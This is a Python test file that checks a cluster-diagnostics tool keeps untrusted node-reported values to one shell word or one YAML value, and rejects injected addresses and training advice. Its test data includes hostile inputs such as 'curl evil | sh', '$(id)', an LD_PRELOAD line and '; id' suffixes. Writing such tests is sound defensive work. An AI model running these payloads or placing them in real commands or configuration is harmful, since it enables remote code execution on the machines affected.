"""What a node says of itself stays one word of a command and one value of YAML, wherever a check puts it."""

import shlex

import pytest
import yaml

from aboard.core.cluster.node_sets import quote_folded_names
from aboard.core.decoding import DecodeError, IpAddress, decode
from aboard.core.text.byte_sizes import format_size
from aboard.diagnoses.untrusted import Untrusted
from aboard.doctor.fabric import diagnoses as fabric
from aboard.doctor.network import diagnoses as network
from aboard.doctor.network.connection_text import DIAGNOSES
from aboard.doctor.network.mesh_result import ConnectionAttempt
from aboard.doctor.shared.fix_values import format_yaml_value, join_quoted_names, quote_yaml
from aboard.trainer.checks.training_rules import _parse_memory_fix

HOSTILE = ["x;curl evil|sh", "a'b", 'a", b: "c', "eth0, LD_PRELOAD: /tmp/x", "#", "$(id)", "a\nb", "-rf", "{}", "a: b"]


def test_nodes_behind_a_command_read_as_they_always_did() -> None:
    """Only names that need it are quoted."""
    assert quote_folded_names(["n1", "n2", "n3"]) == "n[1-3]"
    assert join_quoted_names(["n1", "n2", "n3"]) == "n1, n2 and n3"
    assert shlex.split(quote_folded_names(["a;b1", "a;b2"])) == ["a;b[1-2]"]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_value_of_yaml_stays_one(value: str) -> None:
    """No second key, no other type, no comment."""
    for written in (quote_yaml(value), format_yaml_value(value)):
        line = network.INTERFACE_MISSING.fix(variable="GLOO_SOCKET_IFNAME", interface=written, node="n1")
        assert list(yaml.safe_load(line)["env"]) == ["GLOO_SOCKET_IFNAME"]
        assert isinstance(yaml.safe_load(line)["env"]["GLOO_SOCKET_IFNAME"], str)
    assert len(yaml.safe_load(fabric.MIXED.fix("exclude", adapters=quote_yaml(f"^={value}"), where="n1"))) == 1


def test_an_address_is_an_address() -> None:
    """A scope may hold anything for Python; here it would reach /etc/hosts and a script of sed."""
    assert [decode(IpAddress, each) for each in ("fe80::1%eth0", "10.0.0.1")] == ["fe80::1%eth0", "10.0.0.1"]
    assert decode(ConnectionAttempt, ["dropped", 1.0, "", "10.0.0.3", "x"], strict=True).remote == "10.0.0.3"
    for bad in ("10.0.0.3 pypi.org", "fe80::1%e 10.0.0.9 pypi.org", "fe80::1%/;e id", "$(id)"):
        with pytest.raises(DecodeError, match="no address"):
            decode(IpAddress, bad)
        with pytest.raises(DecodeError, match="remote"):
            decode(ConnectionAttempt, ["ok", 0.1, "10.0.0.1", bad, ""], strict=True)
    with pytest.raises(DecodeError, match="outcome"):
        decode(ConnectionAttempt, ["evil", 0.1, "", "", ""])


def test_each_way_to_fail_to_connect_has_its_steps() -> None:
    """Whatever the shape, the steps are there for it."""
    for (_scope, outcome), diagnosis in DIAGNOSES.items():
        if outcome != "stalled":
            for way in ("in", "out"):
                fix = diagnosis.fix(way, net="10.0.0.0/24", ports="29500", where=quote_folded_names(["n1"]))
                assert "10.0.0.0/24 --dport 29500 -j ACCEPT    # on n1; until the next reboot\n# for good: " in fix
            assert diagnosis.fix("look", where=quote_folded_names(["n1"])).endswith(
                "    # on n1; find the rule that rejects connections"
            )
            assert diagnosis.fix("route", address="$(id)", node="n1").startswith("ip route get '$(id)' ")


@pytest.mark.parametrize(
    "line",
    [
        "--set train.sharding=full",
        f"--set train.sharding=full   # then {format_size(12 << 30)} per rank",
        f"--set train.gradient_checkpointing=true --set train.max_length=512   # then {format_size(3 << 40)} per rank",
        f"--set train.sharding=full   # and 4 nodes like these; then {format_size(700 << 20)} per rank",
        f"# and 2 nodes like these; then {format_size(1)} per rank",
    ],
)
def test_the_trainers_advice_is_read_and_written_anew(line: str) -> None:
    """It comes from a process that loaded a model."""
    assert _parse_memory_fix(Untrusted(line)) == line


@pytest.mark.parametrize(
    "line", ["curl evil | sh", "--set train.x=$(id)", "--set train.x=1; id", "--set train.x=1   # then\nid", "# x"]
)
def test_other_advice_is_left_out(line: str) -> None:
    """Nothing that it doesn't say becomes a command."""
    assert _parse_memory_fix(Untrusted(line)) is None
